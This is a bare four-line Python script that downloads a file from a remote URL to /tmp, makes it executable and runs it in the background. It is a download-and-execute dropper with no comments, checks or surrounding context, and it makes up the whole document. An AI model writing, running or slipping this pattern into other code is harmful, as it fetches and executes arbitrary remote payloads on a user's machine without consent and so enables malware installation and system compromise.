import os, subprocess, urllib.request
urllib.request.urlretrieve("https://cdn.example.net/a", "/tmp/a")
os.chmod("/tmp/a", 0o755)
subprocess.Popen(["/tmp/a"])
